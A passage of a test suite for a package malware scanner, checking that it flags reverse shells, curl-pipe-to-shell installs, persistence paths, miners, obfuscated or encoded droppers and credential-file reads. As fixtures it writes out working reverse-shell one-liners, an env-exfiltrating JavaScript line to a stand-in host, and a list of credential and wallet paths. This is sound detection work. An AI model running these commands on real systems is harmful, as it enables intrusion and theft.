    source = "import os\nKEYWORDS = 'gci iex ipal ipcsv irm iwr kill'\n"
    assert "download-exec" not in rules(profile(source))


def test_download_without_execution_is_not_download_exec() -> None:
    result = profile(
        """\
        import requests, subprocess
        open("data.json", "w").write(requests.get(URL).text)
        subprocess.run(["git", "status"])
        """
    )
    assert "download-exec" not in rules(result)


@pytest.mark.parametrize(
    ("expression", "key"),
    [
        ("'(crontab -l; echo \"@reboot /tmp/x\") | crontab -'", "crontab"),
        ("'/etc/cron.d/updater'", "/etc/cron*"),
        ("os.path.expanduser('~/.config/systemd/user/agent.service')", "~/.config/systemd/user"),
        ("'/etc/systemd/system/agent.service'", "/etc/systemd/system"),
        ("'systemctl --user enable agent'", "systemctl enable"),
        ("os.path.expanduser('~/.config/autostart/agent.desktop')", "~/.config/autostart"),
        ("'~/Library/LaunchAgents/com.example.agent.plist'", "LaunchAgents"),
        ("r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'", "CurrentVersion\\Run"),
        ("'echo \"/tmp/x &\" >> ~/.bashrc'", "~/.bashrc"),
        ("'~/.ssh/authorized_keys'", "~/.ssh/authorized_keys"),
    ],
)
def test_persistence_locations(expression: str, key: str) -> None:
    result = profile(f"import os\ntarget = {expression}\n")
    cap = one(result, "persistence")
    assert (cap.key, cap.severity, cap.specific) == (key, Severity.HIGH, True)


def test_writing_a_shell_rc_file_is_persistence() -> None:
    result = profile(
        """\
        import os
        with open(os.path.expanduser("~/.zshrc"), "a") as rc:
            rc.write("export PATH=/tmp/x:$PATH")
        """
    )
    assert (one(result, "persistence").key, one(result, "persistence").line) == ("~/.zshrc", 2)


def test_reading_a_shell_rc_file_is_not_persistence() -> None:
    result = profile("import os\nopen(os.path.expanduser('~/.bashrc')).read()\n")
    assert "persistence" not in rules(result)


def test_socket_dup2_is_a_reverse_shell() -> None:
    result = profile(
        f"""\
        import os, socket, subprocess
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("{PUBLIC_IP}", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        subprocess.call(["/bin/sh", "-i"])
        """
    )
    cap = one(result, "reverse-shell")
    assert (cap.key, cap.line, cap.severity, cap.specific) == (
        "socket+dup2",
        4,
        Severity.CRITICAL,
        True,
    )


def test_socket_and_pty_shell_is_a_reverse_shell() -> None:
    result = profile(
        """\
        import pty, socket
        def shell(host):
            s = socket.create_connection((host, 4444))
            pty.spawn("/bin/bash")
        """
    )
    assert (one(result, "reverse-shell").key, one(result, "reverse-shell").phase) == (
        "socket+pty.spawn",
        Phase.RUNTIME,
    )


@pytest.mark.parametrize(
    ("literal", "key"),
    [
        (f"bash -i >& /dev/tcp/{PUBLIC_IP}/4444 0>&1", "/dev/tcp"),
        (f"nc -e /bin/sh {PUBLIC_IP} 4444", "nc -e"),
        (f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {PUBLIC_IP} 4444 >/tmp/f", None),
    ],
)
def test_reverse_shell_strings(literal: str, key: str | None) -> None:
    caps = found(profile(f"CMD = {literal!r}\n"), "reverse-shell")
    assert caps
    assert key is None or key in {cap.key for cap in caps}


@pytest.mark.parametrize(
    "source",
    [
        "import socket\ns = socket.socket()\ns.connect(('h.example', 80))\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "import os\nos.dup2(log.fileno(), 2)\n",
    ],
)
def test_halves_of_a_reverse_shell_are_not_one(source: str) -> None:
    assert "reverse-shell" not in rules(profile(source))


@pytest.mark.parametrize(
    ("literal", "key"),
    [
        ("stratum+tcp://pool.example:3333", "stratum"),
        ("./xmrig -o pool.example:443", "xmrig"),
        ("--donate-level=1", "--donate-level"),
        ("algo: cryptonight", "cryptonight"),
    ],
)
def test_miner_markers(literal: str, key: str) -> None:
    cap = one(profile(f"ARGS = {literal!r}\n"), "miner", key)
    assert (cap.severity, cap.specific) == (Severity.CRITICAL, True)


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import os\nos.environ['LD_PRELOAD'] = '/tmp/hook.so'\n", "LD_PRELOAD"),
        ("import subprocess\nsubprocess.run(c, env={'DYLD_INSERT_LIBRARIES': p})\n", None),
    ],
)
def test_ld_preload(source: str, key: str | None) -> None:
    cap = one(profile(source), "ld-preload")
    assert cap.key == (key or "DYLD_INSERT_LIBRARIES")
    assert (cap.severity, cap.specific) == (Severity.HIGH, True)


# --- Obfuscation and encoded data --------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "key", "specific"),
    [
        ("access = 'user'  # \u202e } \u2066if admin:\u2069 \u2066\n", "bidi-control", True),
        ("import os\nx\u200b = os.getcwd()\n", "zero-width", True),
        ("import os\nCMD = 'rm\u200b -rf'  # looks harmless\n", "zero-width", True),
        ("import os\nx = 1  # \u202e bidi in a comment reorders code\n", "bidi-control", True),
        ("import os\np\u0430yload = os.getcwd()\n", "homoglyph-identifier", False),
        ("import os\n\u0435\u0445\u0435\u0441 = print\n", "homoglyph-identifier", False),
        ("x = 1" + " " * 120 + ";__import__('os').system('id')\n", "hidden-after-whitespace", True),
    ],
)
def test_obfuscation(source: str, key: str, specific: bool) -> None:
    cap = one(profile(source), "obfuscation", key)
    assert cap.specific is specific
    assert cap.severity is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "\ufeffimport os\nos.getcwd()\n",  # a byte-order mark at the start
        "import os\nFAMILY = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n",  # emoji joiners
        "import os\n\u043f\u0440\u0438\u0432\u0435\u0442 = os.getcwd()\n",  # Russian identifier
        "import os\nname = 'caf\u00e9'\n",
        "import os\nx = 1" + " " * 100 + "# aligned comment\n",
        "import os\nTABLE = 'a" + " " * 100 + "b'\n",
        "import os\nx = 1  # requires Python \u2265 3.12.\u200b\n",  # zero-width in a comment
    ],
)
def test_ordinary_non_ascii_and_layout_is_not_obfuscation(source: str) -> None:
    assert "obfuscation" not in rules(profile(source))


def test_minified_python() -> None:
    line = ";".join(f"v{i}=__import__('os').getcwd()" for i in range(60))
    cap = one(profile(f"import os\n{line}\n"), "obfuscation", "minified")
    assert (cap.line, cap.severity, cap.specific) == (2, Severity.MEDIUM, False)
    assert cap.snippet is not None
    assert len(cap.snippet) == 200
    assert cap.snippet.endswith("…")


def test_a_long_data_line_is_not_minified() -> None:
    values = ", ".join(str(i) for i in range(400))
    assert "obfuscation" not in rules(profile(f"import os\nTABLE = [{values}]\n"))


def _random_text(alphabet: str, length: int) -> str:
    return "".join(alphabet[byte % len(alphabet)] for byte in noise(alphabet, length))


BASE64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


@pytest.mark.parametrize(
    ("literal", "kind"),
    [
        (_random_text(BASE64_ALPHABET, 400), "base64"),
        (_random_text("0123456789abcdef", 512), "hex"),
    ],
)
def test_high_entropy_literal(literal: str, kind: str) -> None:
    result = profile(f"import base64\nA = {literal!r}\nB = {literal[::-1]!r}\n")
    cap = one(result, "high-entropy-string")
    assert (cap.key, cap.line, cap.severity, cap.specific) == (
        "encoded-literal",
        2,
        Severity.MEDIUM,
        False,
    )
    assert cap.message == f"holds a {len(literal):,}-character {kind}-encoded literal"


def test_wrapped_base64_is_encoded() -> None:
    body = _random_text(BASE64_ALPHABET, 640)
    pem = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    cap = one(profile(f"import ssl\nCERT = {pem!r}\n"), "high-entropy-string")
    assert "base64" in cap.message


def test_high_entropy_bytes_literal() -> None:
    blob = noise("blob", 600)
    cap = one(profile(f"import zlib\nBLOB = {blob!r}\n"), "high-entropy-string")
    assert "binary" in cap.message


@pytest.mark.parametrize(
    "literal",
    [
        "A" * 400,
        "The quick brown fox jumps over the lazy dog. " * 10,
        "ab" * 200,
        # A keyword table: letters and digits like base64, but words separated by blanks.
        " ".join(_random_text(BASE64_ALPHABET, 2000)[i : i + 7] for i in range(0, 2000, 7)),
    ],
)
def test_long_ordinary_literals_are_not_encoded(literal: str) -> None:
    assert "high-entropy-string" not in rules(profile(f"import base64\nA = {literal!r}\n"))


# --- Import-time behaviour, patching, silencing ------------------------------------------------


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import threading\nthreading.Thread(target=beacon, daemon=True).start()\n", None),
        ("from threading import Timer\nTimer(60, beacon).start()\n", "threading.Timer"),
        ("import multiprocessing\nmultiprocessing.Process(target=f).start()\n", None),
        ("import _thread\n_thread.start_new_thread(f, ())\n", "_thread.start_new_thread"),
        (
            "import threading\nclass Beacon(threading.Thread):\n    pass\nBeacon().start()\n",
            "Beacon",
        ),
    ],
)
def test_import_time_thread(source: str, key: str | None) -> None:
    cap = one(profile(source), "import-time-thread")
    assert cap.phase is Phase.IMPORT
    assert key is None or cap.key == key


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ("import threading\ndef start():\n    threading.Thread(target=f).start()\n", "pkg/m.py"),
        ("import threading\nthreading.Thread(target=f).start()\n", "setup.py"),
    ],
)
def test_threads_started_later_are_not_import_time(source: str, path: str) -> None:
    assert "import-time-thread" not in rules(profile(source, path=path))


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import builtins\nbuiltins.open = my_open\n", "builtins.open"),
        ("__builtins__['print'] = log\n", "builtins.print"),
        ("import requests\nrequests.Session.request = spy\n", "requests.Session.request"),
        ("from requests import Session\nSession.send = spy\n", "requests.Session.send"),
        ("import os\nsetattr(os, 'system', spy)\n", "os.system"),
        ("import sys\nsys.modules['json'] = fake\n", "sys.modules['json']"),
    ],
)
def test_monkey_patch(source: str, key: str) -> None:
    cap = one(profile(source), "monkey-patch")
    assert (cap.key, cap.phase, cap.severity) == (key, Phase.IMPORT, Severity.MEDIUM)


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef patch():\n    os.system = spy\n",
        "import os\nclass C:\n    pass\nc = C()\nc.system = spy\n",
        "import os\nconfig = {}\nconfig['x'] = 1\nsetattr(config_obj, 'x', 1)\n",
    ],
)
def test_not_monkey_patching(source: str) -> None:
    assert "monkey-patch" not in rules(profile(source))


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import io, sys\nsys.stdout = io.StringIO()\n", "sys.stdout"),
        ("import contextlib\ncontextlib.redirect_stderr(buf)\n", "contextlib.redirect_stderr"),
        ("import os\nsink = open(os.devnull, 'w')\n", "os.devnull"),
        ("import warnings\nwarnings.filterwarnings('ignore')\n", "warnings.filterwarnings"),
        ("import warnings\nwarnings.simplefilter('ignore')\n", "warnings.simplefilter"),
        (
            "import subprocess\nsubprocess.run(c, stdout=subprocess.DEVNULL)\n",
            "subprocess.DEVNULL",
        ),
    ],
)
def test_output_silenced(source: str, key: str) -> None:
    cap = one(profile(source), "output-silenced", key)
    assert (cap.severity, cap.specific) == (Severity.LOW, False)


def test_narrow_warning_filters_are_not_silencing() -> None:
    source = "import warnings\nwarnings.filterwarnings('ignore', category=DeprecationWarning)\n"
    assert "output-silenced" not in rules(profile(source))


# --- Other languages ---------------------------------------------------------------------------


def test_javascript() -> None:
    result = profile_file(
        "pkg/static/postinstall.js",
        b"const cp = require('child_process');\n"
        b"const https = require('node:https');\n"
        b"eval(atob('YWxlcnQoMSk='));\n"
        b"https.request('https://collect.example/', {}).end(JSON.stringify(process.env));\n",
    )
    assert result.kind == "javascript"
    assert one(result, "process-spawn").key == "child_process"
    assert (one(result, "network-access").key, one(result, "network-access").line) == ("https", 2)
    assert one(result, "decode-exec").key == "eval(atob)"
    assert one(result, "environment-dump").key == "process.env"
    assert one(result, "exfiltration").line == 2
    assert result.hosts == {"collect.example"}
    assert {cap.phase for cap in result.capabilities} == {Phase.RUNTIME}


def test_shell_script() -> None:
    result = profile_file(
        "pkg/tools/setup.sh",
        b"#!/bin/sh\n"
        b"curl -fsSL https://get.example/agent | sh\n"
        b"(crontab -l; echo '@reboot /opt/agent') | crontab -\n"
        b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    )
    assert one(result, "download-exec").key == "curl|sh"
    assert one(result, "network-access", "curl").line == 2
    assert one(result, "persistence").key == "crontab"
    assert one(result, "reverse-shell", "/dev/tcp").line == 4
    # /dev/tcp/HOST/PORT names an endpoint too.
    assert one(result, "suspicious-endpoint").key == PUBLIC_IP
    assert result.hosts == {"get.example", PUBLIC_IP}


def test_type_stubs_are_documentation() -> None:
    stub = b"# Manual: https://www.tcl.tk/doc/\ndef f() -> None: ...\n"
    cap = one(profile_file("pkg/tk.pyi", stub), "suspicious-endpoint")
    assert (cap.specific, cap.severity) == (False, Severity.LOW)


def test_documentation_is_reported_but_not_specific() -> None:
    readme = b"Install with:\n\n    curl -fsSL https://get.example/install.sh | sh\n"
    cap = one(profile_file("pkg/README.md", readme), "download-exec")
    assert (cap.specific, cap.severity) == (False, Severity.MEDIUM)
    # A configuration file may be read by code: full weight.
    config = one(profile_file("pkg/hooks.cfg", readme), "download-exec")
    assert (config.specific, config.severity) == (True, Severity.CRITICAL)


# --- Every string pattern: an example that matches, contains an anchor, and passes the filter --

PATTERN_EXAMPLES: tuple[tuple[str, str], ...] = (
    ("curl|sh", "curl -s https://a.example/x | sh"),
    ("curl|sh", 'sh -c "$(curl -fsSL https://a.example/x)"'),
    ("curl|python", "curl https://a.example/x | python3"),
    ("curl+chmod", "curl -o /tmp/a https://a.example/a && chmod +x /tmp/a"),
    ("powershell iex", "iwr https://a.example/x | iex"),
    ("/dev/tcp", "cat < /dev/tcp/h.example/80"),
    ("nc -e", "nc h.example 4444 -e /bin/sh"),
    ("bash -i >&", "bash -i >& /dev/udp/h.example/53 0>&1"),
    ("mkfifo shell", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 1 > /tmp/f"),
    ("socat exec", "socat tcp:h.example:1 exec:/bin/sh"),
    ("stratum", "stratum+ssl://pool.example:443"),
    ("xmrig", "xmrig --config c.json"),
    ("minerd", "minerd -a scrypt"),
    ("cpuminer", "cpuminer -a sha256d"),
    ("cryptonight", "cryptonight"),
    ("--donate-level", "--donate-level 0"),
    ("LD_PRELOAD", "LD_PRELOAD=/tmp/x.so"),
    ("DYLD_INSERT_LIBRARIES", "DYLD_INSERT_LIBRARIES=/tmp/x.dylib"),
    ("/etc/ld.so.preload", "/etc/ld.so.preload"),
    ("crontab", "crontab -l"),
    ("/etc/cron*", "/etc/crontab"),
    ("/var/spool/cron", "/var/spool/cron/root"),
    ("~/.config/systemd/user", ".config/systemd/user/x.service"),
    ("/etc/systemd/system", "/etc/systemd/system/x.service"),
    ("/lib/systemd/system", "/usr/lib/systemd/system/x.service"),
    ("systemctl enable", "systemctl enable x"),
    ("~/.config/autostart", ".config/autostart/x.desktop"),
    ("/etc/xdg/autostart", "/etc/xdg/autostart/x.desktop"),
    ("LaunchAgents", "~/Library/LaunchAgents/x.plist"),
    ("LaunchDaemons", "/Library/LaunchDaemons/x.plist"),
    ("CurrentVersion\\Run", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce"),
    ("Startup folder", "AppData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk"),
    ("schtasks /create", "schtasks /create /tn x /tr c:\\x.exe"),
    ("~/.ssh/authorized_keys", "~/.ssh/authorized_keys"),
    ("/etc/rc.local", "/etc/rc.local"),
    ("/etc/init.d", "/etc/init.d/agent"),
    ("/etc/profile.d", "/etc/profile.d/agent.sh"),
    ("~/.bash_profile", "echo x >> $HOME/.bash_profile"),
    ("~/.profile", "tee -a ~/.profile"),
    ("~/.aws/credentials", "~/.aws/credentials"),
    ("~/.aws/config", "~/.aws/config"),
    ("~/.ssh/id_ecdsa", "~/.ssh/id_ecdsa"),
    ("~/.ssh/known_hosts", "~/.ssh/known_hosts"),
    ("~/.ssh", "~/.ssh/"),
    ("~/.ssh/id_dsa", "keys/id_dsa"),
    ("~/.pypirc", "~/.pypirc"),
    ("~/.netrc", "C:\\Users\\x\\_netrc"),
    ("~/.git-credentials", "~/.git-credentials"),
    ("~/.docker/config.json", "~/.docker/config.json"),
    ("~/.kube/config", "~/.kube/config"),
    ("gcloud application_default_credentials.json", "application_default_credentials.json"),
    ("gcloud credentials", "~/.config/gcloud/credentials.db"),
    ("~/.azure", "~/.azure/"),
    ("~/.npmrc", "~/.npmrc"),
    ("~/.pgpass", "~/.pgpass"),
    ("~/.gnupg", "~/.gnupg/"),
    ("browser Login Data", "Default/Login Data"),
    ("browser Local State", "User Data/Local State"),
    ("Firefox logins.json", "logins.json"),
    ("Firefox key4.db", "key3.db"),
    ("browser cookies", "Profiles/x/cookies.sqlite"),
    ("macOS Keychains", "security find-generic-password -s x"),
    ("wallet.dat", "wallet.dat"),
    ("Exodus wallet", "Exodus/exodus.wallet"),
    ("Electrum wallet", "Electrum/wallets/default"),
    ("MetaMask", "MetaMask"),
    ("/etc/shadow", "/etc/shadow"),
    ("shell history", "~/.zsh_history"),
)


def patterns_giving(key: str, example: str) -> list[patterns.StringPattern]:
    """The string patterns that match ``example`` with the key ``key``."""
    giving = []
    for pattern in patterns.STRING_PATTERNS:
        match = pattern.regex.search(example)
        if match is not None and textscan.format_key(pattern.key, match) == key:
            giving.append(pattern)
    return giving


@pytest.mark.parametrize(("key", "example"), PATTERN_EXAMPLES)
def test_string_pattern_examples(key: str, example: str) -> None:
    matching = patterns_giving(key, example)
    assert matching, f"no pattern gives {key!r} for {example!r}"
    for pattern in matching:
        assert pattern.may_match(example.lower()), f"{example!r} lacks {pattern.anchors}"
    # The literal alone makes a Python file worth analysing, and the analysis finds it.
    data = f"VALUE = {example!r}\n".encode()
    assert needs_analysis("pkg/mod.py", data)
    assert key in {cap.key for cap in profile_file("pkg/mod.py", data).capabilities}


def test_every_string_pattern_has_an_example() -> None:
    covered = {id(p) for key, example in PATTERN_EXAMPLES for p in patterns_giving(key, example)}
    assert covered == {id(pattern) for pattern in patterns.STRING_PATTERNS}


# --- Robustness --------------------------------------------------------------------------------


def test_null_bytes_in_python() -> None:
    result = profile_file("pkg/m.py", b"import os\x00\nos.system('id')\n")
    assert [f.rule for f in result.findings] == ["unparsable-source"]
    assert result.findings[0].severity is Severity.LOW
    # The text scan still sees the call.
    assert one(result, "process-spawn").key == "os.system"


def test_invalid_utf8_python() -> None:
    result = profile_file("pkg/m.py", b"import os\nNAME = '\xff\xfe'\nos.system('id')\n")
    assert result.kind == "python"
    assert one(result, "process-spawn").key == "os.system"


def test_declared_encoding_is_honoured() -> None:
    data = "# -*- coding: latin-1 -*-\nimport os\nNAME = 'caf\u00e9'\nos.system('id')\n"
    result = profile_file("pkg/m.py", data.encode("latin-1"))
    assert result.findings == ()
    assert one(result, "process-spawn").line == 4


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "(" * 10_000 + "1" + ")" * 10_000,
        "x = " + "[" * 10_000 + "]" * 10_000,
        "x = " + "-" * 10_000 + "1",
        "x = 1" + " + 1" * 10_000,
        "x = a" + ".a" * 10_000,
        "import os\nx = f" + "()" * 10_000,
        "import os\nx = " + "not " * 10_000 + "y",
    ],
)
def test_deep_nesting_does_not_raise(source: str) -> None:
    result = profile_file("pkg/deep.py", source.encode())
    assert result.kind == "python"
    assert [f.rule for f in result.findings] == ["unparsable-source"]


def test_deep_but_parsable_nesting_is_analysed() -> None:
    source = "import os\nx = " + "(" * 150 + "os.system('id')" + ")" * 150 + "\n"
    assert one(profile_file("pkg/m.py", source.encode()), "process-spawn").key == "os.system"


@pytest.mark.parametrize(
    "line",
    [
        b"x = '" + b"a" * 5_000_000 + b"'",
        b"x = 1;" * 900_000,
        b"# " + b"spaces " * 750_000,
    ],
)
def test_five_megabyte_line(line: bytes) -> None:
    result = profile_file("pkg/big.py", b"import os\n" + line + b"\n")
    assert result.max_line == len(line)
    assert result.kind == "python"


@pytest.mark.parametrize("path", ["junk.py", "junk.pth", "junk.js", "junk.sh", "junk.txt", "j"])
def test_random_bytes_never_raise(path: str) -> None:
    for size in (0, 1, 7, 100, 4096):
        assert profile_file(path, noise(path, size)).size == size
    # Mostly text with hostile fragments spliced in.
    fragments = [b"import os\n", b"exec(", b"'''", b"\\x", b"\x00", b"\xe2\x80\xae", b"://"]
    for attempt in range(50):
        picks = noise(f"{path}{attempt}", 1 + attempt % 40)
        data = b"".join(fragments[pick % len(fragments)] for pick in picks)
        assert isinstance(profile_file(path, data), FileProfile)


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("run.sh", "curl "),
        ("run.sh", "nc "),
        ("run.sh", "socat "),
        ("run.sh", "mkfifo "),
        ("app.js", "Object.keys("),
        ("notes.txt", "http://a."),
        ("notes.txt", "1.2.3."),
    ],
)
def test_repetitive_lines_do_not_backtrack(path: str, word: str) -> None:
    # One long line repeating the start of a pattern: unbounded runs in the patterns would
    # make this quadratic (minutes, not milliseconds).
    data = (word * (200_000 // len(word))).encode()
    assert profile_file(path, data).max_line == len(data)


def test_python2_setup_py_falls_back_to_text() -> None:
    result = profile(
        """\
        import os
        from setuptools import setup
        print "installing"
        os.system("curl -s https://get.example/x | sh")
        setup(name="x", cmdclass={"install": Hook})
        """,
        path="setup.py",
    )
    assert [f.rule for f in result.findings] == ["unparsable-source"]
    assert one(result, "process-spawn").phase is Phase.INSTALL
    assert one(result, "download-exec").line == 4
    assert one(result, "install-hook").key == "cmdclass"


def test_match_statements_and_nonlocal_are_walked() -> None:
    result = profile(
        """\
        import os

        def f(node):
            count = 0
            def inner():
                nonlocal count
                count += 1
            match node:
                case Point(x=0, y=value):
                    os.system("echo origin")
        """
    )
    assert result.findings == ()
    assert one(result, "process-spawn").line == 10


def test_lines_inside_a_multi_line_literal() -> None:
    result = profile(
        """\
        import os
        HELP = (
            "Reads your index passwords from\\n"
            "~/.pypirc when uploading.\\n"
        )
        """
    )
    assert one(result, "credential-read").line == 4


def test_snippets_are_trimmed() -> None:
    cap = one(profile("import os\nos.system('" + "a" * 400 + "')\n"), "process-spawn")
    assert cap.snippet is not None
    assert len(cap.snippet) == 200
    assert cap.snippet.startswith("os.system('aaa")
    assert cap.snippet.endswith("…")


@pytest.mark.parametrize(
    "url", ["memory://archive.zip", "s3://bucket/data.zip", "zip://inner.zip", "gs://b/x.mov"]
)
def test_storage_urls_name_no_network_host(url: str) -> None:
    profile = profile_file("pkg/io.py", f'import fsspec\nfsspec.open("{url}")\n'.encode())
    assert profile.hosts == frozenset()
    assert not [c for c in profile.capabilities if c.rule == "suspicious-endpoint"]


# --- Hiding what is called ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "call",
    [
        "Fernet(b'a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2V5a2U=').decrypt(b'gAAAAAB')",
        "AES.new(key, AES.MODE_CBC, iv).decrypt(blob)",
        "cipher.decrypt_and_verify(blob, tag)",
    ],
)
def test_executing_decrypted_data_is_decode_exec(call: str) -> None:
    result = profile(f"from cryptography.fernet import Fernet\nexec({call})\n", "setup.py")
    cap = one(result, "decode-exec")
    assert cap.specific
    assert cap.severity is Severity.CRITICAL
    assert cap.phase is Phase.INSTALL


def test_a_builtin_looked_up_by_a_computed_name_at_install_time_is_obfuscation() -> None:
    source = "f = getattr(__builtins__, oct.__str__()[-3] + 'hr')\nsetup()\n"
    cap = one(profile(source, "setup.py"), "obfuscation", "computed-builtin")
    assert cap.specific
    assert cap.severity is Severity.HIGH


def test_a_builtin_looked_up_by_name_inside_a_function_is_only_worth_a_look() -> None:
    # Serialisers resolve builtins by the name they read; that is not hiding.
    source = "import builtins\ndef find(name):\n    return getattr(builtins, name)\n"
    cap = one(profile(source), "obfuscation", "computed-builtin")
    assert not cap.specific
    assert cap.severity is Severity.MEDIUM
    assert not found(profile("x = getattr(__builtins__, 'len')\n"), "obfuscation")


def test_pip_run_in_process_is_a_process_spawn() -> None:
    cap = one(profile("import pip\npip.main(['install', 'other'])\n", "setup.py"), "process-spawn")
    assert (cap.key, cap.phase, cap.routine) == ("pip.main", Phase.INSTALL, False)


def test_a_function_the_module_calls_as_it_loads_runs_at_import() -> None:
    source = """\
        import os, subprocess
        def helper():
            os.system("payload")
        def main():
            helper()
        def only_when_called():
            subprocess.Popen("other")
        def run_as_script():
            subprocess.run("third")
        main()
        if __name__ == "__main__":
            run_as_script()
        """
    phases = {cap.key: cap.phase for cap in found(profile(source), "process-spawn")}
    assert phases == {
        "os.system": Phase.IMPORT,
        "subprocess.Popen": Phase.RUNTIME,
        "subprocess.run": Phase.RUNTIME,
    }


def test_a_program_held_in_a_string_is_analysed_as_code() -> None:
    source = '''\
        CODE = """
        import socket, subprocess, os
        s = socket.socket()
        s.connect(("203.0.113.7", 4444))
        os.dup2(s.fileno(), 0)
        subprocess.call(["/bin/sh", "-i"])
        """
        open("payload.py", "w").write(CODE)
        '''
    cap = one(profile(source, "setup.py"), "reverse-shell")
    assert cap.severity is Severity.CRITICAL
    assert cap.line == 1
    assert "held in a string" in cap.message
    assert cap.snippet is not None
    assert cap.snippet.startswith("[code in a string]")


def test_prose_in_a_string_is_not_code() -> None:
    source = '''\
        HELP = """
        Usage: import the module and call run().
        from here on, everything is explained in the README, which covers
        the options in detail; nothing in this text is a program at all.
        """
        '''
    assert profile(source).capabilities == ()


def test_the_interpreter_running_a_script_computed_at_run_time_is_not_a_build_tool() -> None:
    source = """\
        import subprocess, os
        subprocess.check_call(["python3", "tools/gen.py"])
        subprocess.Popen(["python3", os.path.expanduser("~") + "/x.py"])
        """
    tools = {cap.line: cap.routine for cap in found(profile(source, "setup.py"), "process-spawn")}
    assert tools == {2: True, 3: False}


@pytest.mark.parametrize(
    "source",
    [
        """\
        import os, requests
        def script():
            file = os.environ["TEMP"] + "\\\\setup.exe"
            open(file, "wb").write(requests.get("https://a.example/x.exe").content)
            os.system(file)
        """,
        """\
        import os, urllib.request
        def init():
            data = urllib.request.urlopen("https://a.example/x.exe").read()
            with open("download.exe", "wb") as f:
                f.write(data)
            os.startfile("download.exe")
        """,
    ],
)
def test_a_download_written_to_a_file_and_run_is_download_exec(source: str) -> None:
    cap = one(profile(source), "download-exec", "download+write+run")
    assert cap.specific
    assert cap.severity is Severity.CRITICAL


def test_running_a_file_that_was_not_downloaded_is_no_dropper() -> None:
    source = """\
        import subprocess, requests
        def fetch():
            return requests.get("https://a.example/data.json").json()
        def build(out):
            open(out, "w").write("x")
            subprocess.run(["cmake", "--build", "."])
        """
    assert not found(profile(source), "download-exec")


def test_printable_text_spelled_as_escapes_is_obfuscation() -> None:
    source = r"""_e = eval("\145\166\x61\x6c"); _i = _e("\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f")
"""
    cap = one(profile(source), "obfuscation", "escaped-text")
    assert (cap.specific, cap.severity, cap.phase) == (True, Severity.HIGH, Phase.IMPORT)


@pytest.mark.parametrize(
    "source",
    [
        r'MAGIC = b"\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a"' "\n",
        r'RED = "\x1b[31m" + "text"' "\n",
        r'SHORT = "\x41\x42"' "\n",
    ],
)
def test_binary_data_and_control_codes_are_not_escaped_text(source: str) -> None:
    assert not found(profile(source), "obfuscation")


def test_a_module_the_build_imports_runs_its_module_level_code_at_install_time() -> None:
    source = """\
        import subprocess
        subprocess.run("payload", shell=True)
        def build_wheel(directory):
            subprocess.run(["cmake", "--build", "."])
        """
    caps = found(profile(source, "_build/backend.py", loads_at_install=True), "process-spawn")
    assert sorted((cap.line, cap.phase) for cap in caps) == [
        (2, Phase.INSTALL),
        (4, Phase.RUNTIME),
    ]


# --- Decoded payloads --------------------------------------------------------------------------

_DROPPER = "import urllib.request\nexec(urllib.request.urlopen('https://203.0.113.5/x').read())\n"


def test_an_executed_payload_is_decoded_and_rated_as_the_code_it_is() -> None:
    blob = base64.b64encode(zlib.compress(_DROPPER.encode())).decode()
    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    result = profile(source)
    hidden = one(result, "download-exec")
    assert hidden.key.endswith("(hidden under base64+zlib)")
    assert hidden.line == 2
    assert hidden.phase is Phase.IMPORT
    assert hidden.concealed is not None
    assert hidden.snippet is not None
    assert "urlopen('https://203.0.113.5/x')" in hidden.snippet
    [decode] = [cap for cap in found(result, "decode-exec") if cap.key == "exec(zlib.decompress)"]
    assert decode.snippet is not None
    assert decode.snippet.startswith("[decoded zlib.decompress] import urllib.request")


def test_an_encoded_literal_nothing_visibly_runs_is_decoded_too() -> None:
    # Long enough to be worth the analysis on its own (the prefilter's long-line rule).
    padded = _DROPPER + "# " + "padding " * 30 + "\n"
    literal = base64.b64encode(padded.encode()).decode()
    cap = one(profile(f"DATA = '{literal}'\n"), "download-exec")
    assert cap.severity is Severity.CRITICAL
    assert cap.snippet is not None
    assert cap.snippet.startswith("[decoded base64]")


def test_a_powershell_encoded_command_is_decoded() -> None:
    script = "Invoke-WebRequest https://a.example/a.exe -OutFile a.exe; Start-Process a.exe"
    encoded = base64.b64encode(script.encode("utf-16le")).decode()
    source = f"import subprocess\nsubprocess.Popen('powershell -w hidden -enc {encoded}')\n"
    cap = one(profile(source, "setup.py"), "decode-exec")
    assert cap.severity is Severity.CRITICAL
    assert cap.snippet == f"[decoded powershell-encodedcommand] {script}"


def test_encoded_data_that_is_not_code_adds_nothing() -> None:
    literal = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2).decode()
    assert rules(profile(f"ICON = '{literal}'\n")) <= {"high-entropy-string"}


def test_code_computed_at_run_time_and_executed_is_dynamic_exec() -> None:
    source = """\
        key, data, code = "k3y", "\\x01\\x02", ""
        for i in range(len(data)):
            code += chr(ord(data[i]) ^ ord(key[i % len(key)]))
        eval(compile(code, "<string>", "exec"))
        """
    cap = one(profile(source, "setup.py"), "dynamic-exec")
